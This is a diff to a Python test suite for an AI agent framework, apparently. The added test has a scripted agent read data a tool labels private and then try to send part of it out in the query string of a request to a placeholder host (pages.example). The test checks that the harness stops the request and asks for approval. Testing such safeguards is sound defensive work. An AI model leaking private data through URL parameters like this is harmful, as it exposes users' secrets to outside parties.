@@ -21,7 +21,7 @@ from autoagent.ports import Job, MemoryPoint
 from autoagent.sandboxes.monty import MontySandbox
 from autoagent.testing.clock import START
 from autoagent.testing.model import ScriptedModel, call, script
-from autoagent.tools import Plugin, ToolContext, WorkspacePath, tool
+from autoagent.tools import Observation, Plugin, ToolContext, WorkspacePath, tool
 from autoagent.trees import WorkingCopy
 
 GOAL = """
@@ -351,3 +351,26 @@ async def test_page_that_is_read_together_with_a_file_is_asked_about(world_and_s
 
     assert (parked.ending, fetched) == ("parked", [])
     assert stage.question().subject.destination == "https://pages.example/?k3y"
+
+
+async def test_what_a_workspace_tool_says_of_its_answer_holds_inside_a_script(
+    world_and_stage: Both,
+) -> None:
+    """An index knows more than the file that is named: what it calls private is, for the next call too."""
+    world, stage = world_and_stage
+
+    @tool(effect="read")
+    async def index_find(ctx: ToolContext, path: WorkspacePath) -> Observation:
+        """Find what an index has of a file."""
+        return Observation(text="an order, a secret", labels=("outside", "private"))
+
+    stage.plugins = [world.plugin(), Plugin("index", [index_find])]
+    stage.write("a.txt", "x")
+    tells = "said = index_find('a.txt')\npage_read('http://pages.example/?' + said[:2])"
+    goal = GOAL.replace("memory, post", "memory, post, index") + "yours: [.]\n"
+    await stage.start(goal, coder(script(tells)))
+
+    assert [q.question.why for q in stage.events(QuestionAsked)] == [
+        "this run has read outside text and private data"
+    ]
+    assert world.fetched == []
